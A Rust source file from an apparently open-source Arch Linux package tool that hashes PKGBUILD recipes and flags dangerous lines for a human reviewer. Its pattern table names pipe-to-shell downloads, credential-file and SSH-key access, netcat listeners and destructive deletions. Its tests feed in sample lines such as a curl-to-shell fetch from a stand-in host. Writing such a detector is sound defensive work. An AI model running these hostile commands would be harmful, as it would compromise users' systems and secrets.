/*
 * linpama - Package transaction engine for Arch Linux front ends.
 * Copyright (C) 2025  linpama contributors
 *
 * This program is free software: you can redistribute it and/or modify
 * it under the terms of the GNU General Public License as published by
 * the Free Software Foundation, either version 3 of the License, or
 * (at your option) any later version.
 *
 * This program is distributed in the hope that it will be useful,
 * but WITHOUT ANY WARRANTY; without even the implied warranty of
 * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
 * GNU General Public License for more details.
 *
 * You should have received a copy of the GNU General Public License
 * along with this program.  If not, see <https://www.gnu.org/licenses/>.
 */

//! Build recipe (PKGBUILD) capture and advisory scanning.
//!
//! The scanner only annotates the recipe for the reviewer. Whether a build
//! proceeds is decided by the operator alone.

use regex::Regex;
use sha2::{Digest, Sha256};
use std::fmt;

/// How alarming a finding is
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    Low,
    Medium,
    High,
    Critical,
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let label = match self {
            Severity::Low => "low",
            Severity::Medium => "medium",
            Severity::High => "high",
            Severity::Critical => "critical",
        };
        f.write_str(label)
    }
}

/// A pattern in the recipe the reviewer should look at
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub severity: Severity,
    pub description: String,
    /// 1-based line, `None` for whole-recipe findings
    pub line: Option<usize>,
}

/// A fetched build recipe as presented for review
#[derive(Debug, Clone)]
pub struct BuildRecipe {
    package: String,
    text: String,
    digest: String,
    findings: Vec<Finding>,
}

impl BuildRecipe {
    /// Capture `text` for `package`, hashing and scanning it
    pub fn new(package: impl Into<String>, text: impl Into<String>) -> Self {
        let text = text.into();
        let digest = hex::encode(Sha256::digest(text.as_bytes()));
        let findings = RecipeScanner::new().scan(&text);
        Self {
            package: package.into(),
            text,
            digest,
            findings,
        }
    }

    pub fn package(&self) -> &str {
        &self.package
    }

    /// Full recipe text, unabridged
    pub fn text(&self) -> &str {
        &self.text
    }

    /// Hex SHA-256 of the recipe text
    pub fn digest(&self) -> &str {
        &self.digest
    }

    pub fn findings(&self) -> &[Finding] {
        &self.findings
    }

    /// Most severe finding, if any
    pub fn worst(&self) -> Option<Severity> {
        self.findings.iter().map(|f| f.severity).max()
    }
}

const PATTERNS: &[(Severity, &str, &str)] = &[
    (Severity::Critical, r"rm\s+-rf\s+/[a-zA-Z]", "Recursive deletion under the root filesystem"),
    (Severity::Critical, r":\s*\(\s*\)\s*\{", "Potential fork bomb"),
    (Severity::Critical, r"eval\s+.*\$\((curl|wget)", "Evaluates downloaded code"),
    (Severity::Critical, r"dd\s+if=.*of=/dev/", "Raw write to a block device"),
    (Severity::Critical, r"mkfs(\.\w+)?\s", "Filesystem formatting"),
    (Severity::High, r"(curl|wget)\s+.*\|\s*(ba|z)?sh", "Pipes a download into a shell"),
    (Severity::High, r"/etc/(shadow|sudoers)", "Touches credential or sudo configuration"),
    (Severity::High, r"~/\.ssh|\.gnupg", "Touches the user's keys"),
    (Severity::High, r"chmod\s+(-R\s+)?777", "World-writable permissions"),
    (Severity::High, r"\bnc(at)?\s+.*-[el]", "Opens a network listener"),
    (Severity::Medium, r"\bsudo\s", "Invokes sudo from the recipe"),
    (Severity::Medium, r"\b(pip|npm|cargo)\s+install", "Installs outside the package manager"),
    (Severity::Medium, r"base64\s+(-d|--decode)", "Decodes embedded data"),
    (Severity::Low, r"\brm\s+-rf", "Recursive deletion"),
    (Severity::Low, r"\bchown\s", "Ownership changes"),
];

const NETWORK_COMMANDS: &[&str] = &["curl ", "wget ", "git clone", "pip install", "npm install"];

/// Pattern scanner over recipe text
pub struct RecipeScanner {
    patterns: Vec<(Severity, Regex, &'static str)>,
}

impl RecipeScanner {
    pub fn new() -> Self {
        let patterns = PATTERNS
            .iter()
            .filter_map(|(severity, pattern, description)| {
                Regex::new(pattern)
                    .ok()
                    .map(|re| (*severity, re, *description))
            })
            .collect();
        Self { patterns }
    }

    /// Findings ordered by line; comment lines are ignored
    pub fn scan(&self, text: &str) -> Vec<Finding> {
        let mut findings = Vec::new();

        for (idx, line) in text.lines().enumerate() {
            if line.trim_start().starts_with('#') {
                continue;
            }
            for (severity, re, description) in &self.patterns {
                if re.is_match(line) {
                    findings.push(Finding {
                        severity: *severity,
                        description: description.to_string(),
                        line: Some(idx + 1),
                    });
                }
            }
        }

        if let Some(line) = network_in_build(text) {
            findings.push(Finding {
                severity: Severity::Medium,
                description: "Network access inside build()".to_string(),
                line: Some(line),
            });
        }

        findings
    }
}

impl Default for RecipeScanner {
    fn default() -> Self {
        Self::new()
    }
}

/// First line inside `build()` that reaches for the network
fn network_in_build(text: &str) -> Option<usize> {
    let mut in_build = false;

    for (idx, line) in text.lines().enumerate() {
        let trimmed = line.trim();

        if trimmed.starts_with("build()") || trimmed.starts_with("build ()") {
            in_build = true;
            continue;
        }
        if in_build
            && (trimmed.starts_with("package()")
                || trimmed.starts_with("package_")
                || trimmed.starts_with("check()")
                || trimmed.starts_with("prepare()"))
        {
            in_build = false;
        }

        if in_build
            && !trimmed.starts_with('#')
            && NETWORK_COMMANDS.iter().any(|cmd| trimmed.contains(cmd))
        {
            return Some(idx + 1);
        }
    }

    None
}

#[cfg(test)]
mod tests {
    use super::*;

    const CLEAN: &str = r#"
pkgname=hello
pkgver=1.0.0
pkgrel=1
arch=('x86_64')
source=("https://example.com/hello-1.0.0.tar.gz")

build() {
    make
}

package() {
    make DESTDIR="$pkgdir" install
}
"#;

    #[test]
    fn test_clean_recipe_has_no_findings() {
        let recipe = BuildRecipe::new("hello", CLEAN);
        assert!(recipe.findings().is_empty());
        assert_eq!(recipe.worst(), None);
        assert_eq!(recipe.text(), CLEAN);
    }

    #[test]
    fn test_digest_is_sha256_hex() {
        let recipe = BuildRecipe::new("empty", "");
        assert_eq!(
            recipe.digest(),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        );
        assert_ne!(BuildRecipe::new("hello", CLEAN).digest(), recipe.digest());
    }

    #[test]
    fn test_dangerous_lines_are_flagged() {
        let recipe = BuildRecipe::new(
            "evil",
            "package() {\n  curl -s https://x.example/i.sh | sh\n  rm -rf /usr/lib/foo\n}\n",
        );
        assert_eq!(recipe.worst(), Some(Severity::Critical));
        assert!(recipe
            .findings()
            .iter()
            .any(|f| f.severity == Severity::High && f.line == Some(2)));
    }

    #[test]
    fn test_comments_are_ignored() {
        let findings = RecipeScanner::new().scan("# curl https://x | sh\nmake\n");
        assert!(findings.is_empty());
    }

    #[test]
    fn test_network_inside_build_only() {
        let text = "prepare() {\n  git clone https://example.com/a\n}\nbuild() {\n  wget https://example.com/b\n}\n";
        let findings = RecipeScanner::new().scan(text);
        let network: Vec<&Finding> = findings
            .iter()
            .filter(|f| f.description.contains("build()"))
            .collect();
        assert_eq!(network.len(), 1);
        assert_eq!(network[0].line, Some(5));
    }
}
